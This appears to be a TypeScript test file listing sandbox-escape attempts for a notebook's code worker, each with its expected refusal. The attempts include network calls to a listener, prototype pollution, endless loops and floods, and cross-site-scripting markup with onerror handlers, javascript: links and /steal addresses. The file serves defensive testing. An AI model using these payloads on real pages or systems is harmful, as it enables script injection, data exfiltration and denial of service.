/** One piece of hostile code, and what a reader must see of it. */
export interface Attack {
  readonly name: string;
  readonly code: string;
  /**
   * Words that the cell's output holds; or the code of its error; or that it runs until it is stopped, or that a figure
   * is drawn or refused in a sentence.
   */
  readonly expected: string | RegExp | { readonly error: string } | "stop" | "figure";
}

/** Code that says `refused` of what throws or rejects, and `through` of what does not. */
function trying(code: string): string {
  return `let fate = "through";
try { await (async () => { ${code} })(); } catch (error) { fate = "refused: " + error?.name; }
fate;`;
}

function refused(name: string, code: string): Attack {
  return { name, code: trying(code), expected: "refused" };
}

/** What only a page has. */
function absent(name: string, path: string): Attack {
  return { name, code: `typeof globalThis.${path};`, expected: "undefined" };
}

/** Code that never ends by itself. */
function endless(name: string, code: string): Attack {
  return { name, code, expected: "stop" };
}

/** @param listener address of a server that must hear nothing, without its scheme */
export function networkAttacks(listener: string): Attack[] {
  const url = `http://${listener}`;
  return [
    refused("fetch", `await fetch("${url}/fetch")`),
    refused("fetch that expects no answer", `await fetch("${url}/x", { mode: "no-cors", keepalive: true })`),
    refused(
      "fetch of the book itself",
      `await fetch(new URL("/en/", location.origin === "null" ? "${url}" : location.origin))`,
    ),
    refused("fetch of data", `await fetch("data:text/plain,x")`),
    refused(
      "fetch through the real one's constructor",
      `await Reflect.apply(globalThis.fetch, globalThis, ["${url}/reflect"])`,
    ),
    refused(
      "XMLHttpRequest",
      `await new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = () => no(new Error()); r.open("GET", "${url}/xhr"); r.send(); })`,
    ),
    refused(
      "synchronous XMLHttpRequest",
      `const r = new XMLHttpRequest(); r.open("GET", "${url}/sync", false); r.send();`,
    ),
    refused(
      "WebSocket",
      `await new Promise((yes, no) => { const s = new WebSocket("ws://${listener}/"); s.onopen = yes; s.onerror = () => no(new Error()); })`,
    ),
    refused("WebSocketStream", `await new WebSocketStream("ws://${listener}/").opened`),
    refused(
      "EventSource",
      `await new Promise((yes, no) => { const s = new EventSource("${url}/events"); s.onopen = yes; s.onerror = () => { s.close(); no(new Error()); }; })`,
    ),
    refused("WebTransport", `await new globalThis.WebTransport("https://${listener}/").ready`),
    absent("RTCPeerConnection", "RTCPeerConnection"),
    absent("beacon", "navigator.sendBeacon"),
    absent("image", "Image"),
    absent("prefetch link and style sheet", "document"),
    absent("worklet", "CSS?.paintWorklet"),
    absent("shared worker", "SharedWorker"),
    absent("service worker", "navigator.serviceWorker?.controller"),
    refused("font", `await new FontFace("spy", "url(${url}/font)").load()`),
    refused(
      "font added to the worker's own",
      `const f = new FontFace("spy", "url(${url}/font2)"); self.fonts.add(f); await f.load();`,
    ),
    { name: "dynamic import", code: `import("${url}/module.js");`, expected: { error: "syntax" } },
    refused("dynamic import made of text", `await new Function("return import('${url}/module.js')")()`),
    refused("dynamic import of data", `await new Function("return import('data:text/javascript,1')")()`),
    { name: "static import", code: `import spy from "${url}/module.js";`, expected: { error: "syntax" } },
    refused("importScripts", `importScripts("${url}/script.js")`),
    refused("importScripts of data", `importScripts("data:text/javascript,1")`),
    absent("worker", "Worker"),
    refused("cache that fetches", `await (await globalThis.caches.open("spy")).add("${url}/cache")`),
  ];
}

export const pageAttacks: readonly Attack[] = [
  absent("window", "window"),
  absent("parent frame", "parent"),
  absent("top frame", "top"),
  absent("opener", "opener"),
  absent("local storage", "localStorage"),
  absent("session storage", "sessionStorage"),
  absent("popup", "open"),
  absent("dialog", "alert"),
  absent("clipboard", "navigator.clipboard"),
  absent("camera", "navigator.mediaDevices"),
  absent("place", "navigator.geolocation"),
  absent("form", "HTMLFormElement"),
  refused(
    "cookies",
    `const all = await globalThis.cookieStore.getAll(); if (all.length === 0) throw new Error();`,
  ),
  refused(
    "database",
    `await new Promise((yes, no) => { const r = indexedDB.open("surprisal"); r.onsuccess = yes; r.onerror = () => no(new Error()); })`,
  ),
  refused("private file system", `await navigator.storage.getDirectory()`),
  refused("locks", `await navigator.locks.request("page", () => {})`),
  refused("navigation", `location.assign("/"); if (location.protocol === "blob:") throw new Error();`),
  refused("another place", `"use strict"; location.href = "https://example.com/";`),
  refused(
    "notifications",
    `if ((await Notification.requestPermission?.()) !== "granted") throw new Error(Notification.permission);`,
  ),
  absent("message to the frame", "postMessage"),
  {
    name: "message to itself",
    code: `const { port1, port2 } = new MessageChannel();
dispatchEvent(new MessageEvent("message", { ports: [port1, port2] }));
port2.postMessage({ run: 1, type: "runAll" });
1;`,
    expected: "1",
  },
  refused(
    "the kernel's channel by its prototype",
    `let port; const { postMessage } = MessagePort.prototype;
     MessagePort.prototype.postMessage = function (...all) { port = this; return postMessage.apply(this, all); };
     console.log("x"); await new Promise((go) => setTimeout(go, 60));
     port.postMessage([{ run: 1, type: "output", cell: "weather", output: { kind: "stream", name: "log", text: "forged" } }]);`,
  ),
  refused(
    "the kernel's channel by its messages",
    `Object.defineProperty(MessageEvent.prototype, "data", { get() { globalThis.port = this.currentTarget; return []; } });`,
  ),
  refused("the kernel's channel by its listeners", `EventTarget.prototype.dispatchEvent = 1;`),
  refused("the kernel's stack", `Error.prepareStackTrace = (_, frames) => frames.map((f) => f.getThis());`),
  {
    name: "a channel of its own",
    code: `const own = new MessageChannel(); own.port1.postMessage([{ run: 1, type: "ready" }]); 1;`,
    expected: "1",
  },
  absent("broadcast", "BroadcastChannel"),
  absent("canvas", "OffscreenCanvas"),
  { name: "debugger", code: "debugger; 1;", expected: "1" },
];

export const pollutionAttacks: readonly Attack[] = [
  refused("Object.prototype", `Object.prototype.type = "result";`),
  refused("Object.prototype by __proto__", `({}).__proto__.kind = "error";`),
  refused("Object.prototype by a setter", `Object.defineProperty(Object.prototype, "cell", { set() {} });`),
  refused("Array.prototype.reduce", `Array.prototype.reduce = () => 42;`),
  refused("Array.prototype.push", `Array.prototype.push = function () { return 0; };`),
  refused("an index of Array.prototype", `Array.prototype[0] = "forged";`),
  refused("array iteration", `[][Symbol.iterator]().__proto__.next = () => ({ done: true });`),
  refused("Map.prototype.get", `Map.prototype.get = () => undefined;`),
  refused("Set.prototype.has", `Set.prototype.has = () => true;`),
  refused("Promise.prototype.then", `Promise.prototype.then = () => {};`),
  refused("Function.prototype.call", `Function.prototype.call = () => {};`),
  refused("String.prototype.slice", `String.prototype.slice = () => "forged";`),
  refused("Number.prototype.toString", `Number.prototype.toString = () => "forged";`),
  refused("JSON.stringify", `JSON.stringify = () => "{}";`),
  refused("Math.log2", `Math.log2 = () => 7;`),
  refused("Object.keys", `Object.keys = () => [];`),
  refused("Reflect.ownKeys", `Reflect.ownKeys = () => [];`),
  refused("the constructor of cells", `(async () => {}).constructor.prototype.constructor = Function;`),
  refused("typed arrays", `Object.getPrototypeOf(Float64Array.prototype).map = () => [];`),
  refused("a function of the library", `entropy.call = () => 42; entropy.own = 1;`),
  refused("the library's figures", `plot.curves = () => 42;`),
  refused("a new global name", `globalThis.spy = 1;`),
  refused("setTimeout", `globalThis.setTimeout = () => {};`),
  refused("the clock", `performance.now = () => 0;`),
  refused("formulas", "tex``.constructor.latexOf = () => 'forged';"),
  {
    name: "regular expressions, which are mended instead",
    code: `RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; 1;`,
    expected: "1",
  },
  {
    name: "a prototype under a key",
    code: `JSON.parse('{ "__proto__": { "polluted": 1 }, "constructor": { "prototype": 2 } }');`,
    expected: /__proto__|constructor/,
  },
  { name: "the library under another name", code: `entropy = () => 42;`, expected: { error: "assignment" } },
  { name: "another cell's list", code: `terms.push(1);`, expected: { error: "frozen" } },
];

export const endlessAttacks: readonly Attack[] = [
  endless("loop", `while (true) {}`),
  endless("loop that shows things", `for (let i = 0; ; i++) if (i % 1e6 === 0) console.log(i);`),
  endless("loop of promises", `while (true) await null;`),
  endless("loop of timers", `while (true) await new Promise((go) => setTimeout(go, 0));`),
  endless("promise that never settles", `await new Promise(() => {});`),
  endless("generator", `function* forever() { while (true) yield 1; }\nfor (const _ of forever());`),
  endless("regular expression that backtracks", `/^(a+)+$/.test("a".repeat(60) + "b");`),
  endless("proxy that is slow to look at", `display(new Proxy({}, { ownKeys() { while (true); } }));`),
  endless("prototype that is slow to find", `new Proxy({}, { getPrototypeOf() { while (true); } });`),
  endless("error whose message never ends", `throw { get message() { while (true); } };`),
  endless("conversion to a primitive", `tex\`x\` + { [Symbol.toPrimitive]() { while (true); } };`),
  endless("sort that compares for ever", `[2, 1].sort(() => { while (true); });`),
  endless(
    "sleep without a clock",
    `Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0);`,
  ),
  endless(
    "flood of messages",
    `const own = new MessageChannel(); for (;;) own.port1.postMessage("x".repeat(1000));`,
  ),
  endless("flood of console lines", `for (;;) console.log("x".repeat(100));`),
  endless("flood of outputs", `for (;;) display({ a: [1, 2, 3] });`),
  endless(
    "recursion in two branches",
    `const branch = (n) => (n === 0 ? 0 : branch(n - 1) + branch(n - 1));\nbranch(60);`,
  ),
  endless("very large power", `2n ** (2n ** 29n) * 3n ** (2n ** 28n); for (;;);`),
];

export const largeAttacks: readonly Attack[] = [
  { name: "recursion", code: `const again = () => again() + 1; again();`, expected: { error: "runtime" } },
  { name: "array beyond all bounds", code: `new Array(2 ** 32);`, expected: { error: "runtime" } },
  { name: "buffer beyond all bounds", code: `new ArrayBuffer(2 ** 45);`, expected: { error: "runtime" } },
  { name: "text beyond all bounds", code: `"x".repeat(2 ** 30);`, expected: { error: "runtime" } },
  {
    name: "code nested too deeply",
    code: `${"[".repeat(900)}${"]".repeat(900)};`,
    expected: { error: "syntax" },
  },
  { name: "10 million numbers", code: `new Float64Array(1e7);`, expected: "Float64Array" },
  { name: "sparse array", code: `const far = []; far[4e9] = 1; far;`, expected: /undefined|\[/ },
  {
    name: "a hundred thousand keys",
    code: `Object.fromEntries(Array.from({ length: 1e5 }, (_, i) => ["k" + i, i]));`,
    expected: "k0",
  },
  {
    name: "value nested deeply",
    code: `let deep = {}; for (let i = 0; i < 1e5; i++) deep = { deep }; deep;`,
    expected: "deep",
  },
  { name: "circle", code: `const ring = {}; ring.ring = ring; ring;`, expected: "↺" },
  { name: "long line", code: `console.log("x".repeat(2e7)); 1;`, expected: /1/ },
  { name: "thousand lines", code: `for (let i = 0; i < 1e5; i++) console.log(i);`, expected: "199" },
  { name: "late flood", code: `setInterval(() => console.log("late".repeat(50)), 0); 1;`, expected: "1" },
  {
    name: "loop that begins after its cell's end",
    code: `setTimeout(() => { for (;;); });\n1;`,
    expected: "1",
  },
  { name: "end of the worker", code: `close();`, expected: { error: "missing" } },
  {
    name: "value that resists",
    code: `new Proxy({}, { get() { throw 1; }, ownKeys() { throw 2; }, getPrototypeOf() { throw 3; }, has() { throw 4; }, getOwnPropertyDescriptor() { throw 5; } });`,
    expected: "⚠",
  },
  {
    name: "value whose words throw",
    code: `({ toString() { throw 1; }, toJSON() { throw 2; }, valueOf() { throw 3; }, get x() { throw 4; } });`,
    expected: "⚠",
  },
  {
    name: "thrown proxy",
    code: `throw new Proxy(new Error("x"), { get() { throw 1; } });`,
    expected: { error: "runtime" },
  },
  {
    name: "revoked proxy",
    code: `const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); proxy;`,
    expected: "⚠",
  },
];

const markup = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script><a href="javascript:alert(1)">go</a>`;
const quoted = JSON.stringify(markup);

/** A cell that shows markup of its own, and a word that stays of it. */
function shown(name: string, kind: "text/html" | "image/svg+xml" | "text/latex", source: string): Attack {
  return {
    name,
    code: `display({ ${JSON.stringify(kind)}: ${JSON.stringify(source)} });\n"still here";`,
    expected: "still here",
  };
}

function figure(name: string, parts: string, expected: string | RegExp = ""): Attack {
  return { name, code: `({ ${parts}, layout: { meta: { alt: "x" } } });`, expected };
}

/** @param listener address of a server that must hear nothing, without its scheme */
export const markupAttacks = (listener: string): readonly Attack[] => [
  { name: "markup as text", code: `${quoted};`, expected: "<img src=x" },
  { name: "markup on the console", code: `console.log(${quoted});`, expected: "<img src=x" },
  {
    name: "markup as key, column and class",
    code: `class A { a = {} }\nObject.defineProperty(A, "name", { value: ${quoted} });\ndisplay({ a: new A() });\n[{ [${quoted}]: 1 }];`,
    expected: "<img src=x",
  },
  { name: "markup in an error", code: `throw new Error(${quoted});`, expected: "<img src=x" },
  {
    name: "markup as a label",
    code: `select(${quoted}, { label: ${quoted}, options: [${quoted}] });`,
    expected: "<img src=x",
  },
  { name: "markup in a template", code: `html\`<p>\${${quoted}}</p>\`;`, expected: "<img src=x" },
  ...["prefetch", "preconnect", "dns-prefetch", "modulepreload", "prerender", "stylesheet"].map((rel) =>
    shown(`${rel} in HTML`, "text/html", `<link rel="${rel}" as="script" href="http://${listener}/${rel}">`),
  ),
  shown("script in HTML", "text/html", markup),
  shown(
    "frame in HTML",
    "text/html",
    `<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>`,
  ),
  shown(
    "form in HTML",
    "text/html",
    `<form action="/steal"><input name=a autofocus onfocus="document.title=1"></form>`,
  ),
  shown(
    "style in HTML",
    "text/html",
    `<style>*{display:none}</style><p style="position:fixed;inset:0;background:url(/steal)">x</p>`,
  ),
  shown(
    "base and refresh in HTML",
    "text/html",
    `<base href="https://example.com/"><meta http-equiv=refresh content="0;url=/steal">`,
  ),
  shown(
    "names that hide the page's own",
    "text/html",
    `<p id="text" name="cookie">x</p><a id=defaultView name=title>y</a>`,
  ),
  shown(
    "mutating markup",
    "text/html",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title=1&gt;">`,
  ),
  shown("deep markup", "text/html", "<div>".repeat(20_000)),
  shown(
    "script in SVG",
    "image/svg+xml",
    `<svg onload="document.title=1"><script>document.title=1</script><circle r=5></circle></svg>`,
  ),
  shown(
    "page in SVG",
    "image/svg+xml",
    `<svg><foreignObject><iframe src="/steal"></iframe></foreignObject></svg>`,
  ),
  shown(
    "addresses in SVG",
    "image/svg+xml",
    `<svg><image href="/steal"></image><use href="/steal#a"></use><rect fill="url(/steal#b)" filter="url(/steal#c)"></rect></svg>`,
  ),
  shown(
    "animation in SVG",
    "image/svg+xml",
    `<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate><text>x</text></a></svg>`,
  ),
  shown(
    "link in a formula",
    "text/latex",
    String.raw`\href{javascript:alert(1)}{x}\url{https://example.com/}`,
  ),
  shown("picture in a formula", "text/latex", String.raw`\includegraphics{/steal.png}`),
  shown(
    "attributes in a formula",
    "text/latex",
    String.raw`\htmlData{a=1}{x}\htmlId{text}{y}\htmlStyle{position:fixed}{z}`,
  ),
  shown("formula without an end", "text/latex", String.raw`\def\a{\a\a}\a`),
  shown("formula larger than the page", "text/latex", String.raw`\rule{99999em}{99999em}`),
  shown("formula nested too deeply", "text/latex", "{".repeat(9000)),
  figure(
    "links in a figure",
    `data: [{ type: "scatter", mode: "text", x: [1], y: [1], text: ['<a href="javascript:alert(1)">alpha</a>'] }]`,
    "alpha",
  ),
  {
    name: "pictures, links and menus in a figure's layout",
    code: `({ data: [{ type: "bar", x: ["a"], y: [1] }], layout: {
  title: { text: '<a href="https://example.com/">beta</a>' },
  images: [{ source: "/steal.png", x: 0, y: 1, sizex: 1, sizey: 1 }],
  updatemenus: [{ buttons: [{ label: "x", method: "relayout", args: ["images[0].source", "/steal"] }] }],
  template: { layout: { images: [{ source: "/steal.png" }] } },
  annotations: [{ x: 0, y: 1, text: '<a href="/steal" target="_top">gamma</a>' }],
} });`,
    expected: "gamma",
  },
  figure("trace of no known type", `data: [{ type: "evil", x: [1], y: [2] }, { type: 7 }, {}]`, "figure"),
  figure(
    "figure without sense",
    `data: [{ type: "bar", x: "no", y: { a: 1 }, marker: { color: "url(/steal)" } }]`,
    "figure",
  ),
  figure(
    "figure beyond all bounds",
    `data: [{ type: "scatter", x: new Float64Array(1e6), y: new Float64Array(1e6) }]`,
    "data",
  ),
  {
    name: "axis without an end",
    code: `({ data: [{ type: "scatter", x: [0, 1e300], y: [1, 2] }], layout: { xaxis: { dtick: 1e-300, tick0: 0, rangebreaks: [{ dvalue: 1e-9, values: [1] }] } } });`,
    expected: "figure",
  },
  {
    name: "three hundred figures",
    code: `for (let i = 0; i < 300; i++) display({ data: [{ y: [i] }], layout: {} }); 1;`,
    expected: "1",
  },
];
